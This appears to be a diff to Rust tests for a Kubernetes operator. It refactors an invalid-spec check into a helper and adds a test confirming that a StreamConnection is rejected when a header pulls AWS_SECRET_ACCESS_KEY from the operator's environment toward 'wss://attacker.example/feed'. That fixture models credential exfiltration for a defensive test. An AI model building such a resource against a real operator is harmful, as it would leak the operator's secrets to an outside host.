@@ -165,19 +165,16 @@ async fn a_finalized_resource_is_mirrored_and_its_status_applied() {
     );
 }
 
-#[tokio::test]
-async fn an_invalid_spec_gets_a_condition_and_no_table_write() {
+/// Reconciles `obj`, expecting `Ready=False/InvalidSpec` naming `field`, a
+/// Warning event, no table write and no retry until the object changes.
+async fn assert_refused_as_invalid(obj: StreamConnection, field: &'static str) {
     let (ctx, mut handle, store) = setup().await;
-    let obj = finalized(sc("bad", "http://not-a-websocket/"));
+    let name = obj.metadata.name.clone().unwrap();
+    let obj = finalized(obj);
     let reply = serde_json::to_value(&obj).unwrap();
+    let status_path = format!("{OBJ_PATH}{name}/status");
     let server = tokio::spawn(async move {
-        let (_, body) = expect(
-            &mut handle,
-            Method::PATCH,
-            &format!("{OBJ_PATH}bad/status"),
-            reply.clone(),
-        )
-        .await;
+        let (_, body) = expect(&mut handle, Method::PATCH, &status_path, reply.clone()).await;
         let ready = body["status"]["conditions"]
             .as_array()
             .unwrap()
@@ -189,7 +186,10 @@ async fn an_invalid_spec_gets_a_condition_and_no_table_write() {
             (ready["status"].as_str(), ready["reason"].as_str()),
             (Some("False"), Some("InvalidSpec"))
         );
-        assert!(ready["message"].as_str().unwrap().contains("spec.url"));
+        assert!(
+            ready["message"].as_str().unwrap().contains(field),
+            "{ready}"
+        );
         // A Warning event says the same.
         let (_, event) = expect(
             &mut handle,
@@ -210,7 +210,25 @@ async fn an_invalid_spec_gets_a_condition_and_no_table_write() {
         kube::runtime::controller::Action::await_change(),
         "waits for a change, no hot loop"
     );
-    assert_eq!(store.get(&StreamKey::new("ns", "bad")).await.unwrap(), None);
+    assert_eq!(store.get(&StreamKey::new("ns", &name)).await.unwrap(), None);
+}
+
+#[tokio::test]
+async fn an_invalid_spec_gets_a_condition_and_no_table_write() {
+    assert_refused_as_invalid(sc("bad", "http://not-a-websocket/"), "spec.url").await;
+}
+
+#[tokio::test]
+async fn a_resource_cannot_read_the_operators_environment_through_a_header() {
+    let mut obj = sc("exfiltrate", "wss://attacker.example/feed");
+    obj.spec.headers = vec![tether::crd::HeaderSpec {
+        name: "X-Key".into(),
+        value_from: tether::crd::HeaderValueSource {
+            env: Some("AWS_SECRET_ACCESS_KEY".into()),
+            secret_key_ref: None,
+        },
+    }];
+    assert_refused_as_invalid(obj, "spec.headers[0].valueFrom.env").await;
 }
 
 #[tokio::test]
